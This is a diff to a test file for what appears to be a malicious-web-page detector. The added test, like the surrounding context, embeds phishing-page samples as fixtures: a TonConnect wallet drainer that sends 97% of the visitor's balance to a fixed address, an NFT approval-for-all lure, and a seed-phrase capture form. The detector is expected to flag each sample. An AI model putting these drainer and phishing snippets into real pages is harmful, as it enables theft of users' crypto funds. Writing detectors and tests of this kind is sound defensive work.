@@ -773,6 +773,9 @@ describe('analysis: signal rules', () => {
       const nft = judge('https://nft-rewards.example/claim', `<h1>Claim your free NFT airdrop</h1><script>connect.onclick=async()=>{const [me]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:COLL,data:'0xa22cb465'+OP+'1'.padStart(64,'0')}]});}</script>`);
       assert.ok(ids(nft).includes('wallet-lure-text') && ids(nft).includes('wallet-approval-request'));
       assert.ok(nft.decidedBy?.includes('combo:wallet-lure-approval'));
+      // TON: the balance from a public API, a share of a field of it sent through TonConnect.
+      const ton = judge('https://voucher-claim.example/', `<h1>Your voucher is ready</h1><script>const ui=new TON_CONNECT_UI.TonConnectUI({manifestUrl:'https://voucher-claim.example/m.json'});cl.onclick=async()=>{const r=await fetch('https://toncenter.com/api/v2/getAddressBalance?address='+ui.account.address).then(x=>x.json());const amt=(BigInt(r.result)*97n/100n).toString();await ui.sendTransaction({validUntil:0,messages:[{address:'UQB3ncyBUTjZUA5EnFKR5_EnOMI9V1tTEAAPaiU71gc4TiUt',amount:amt}]});};</script>`);
+      assert.ok(ids(ton).includes('wallet-balance-sweep'), JSON.stringify(ids(ton)));
       const sync = judge('https://wallet-sync.example/import', '<h2>Sync your wallet</h2><textarea id="p" placeholder="Phrase"></textarea><p>Typically 12 (sometimes 24) words separated by single spaces</p><button>SYNC</button>');
       assert.ok(ids(sync).includes('credential-seed-phrase'));
       assert.equal(sync.verdict, 'malicious');
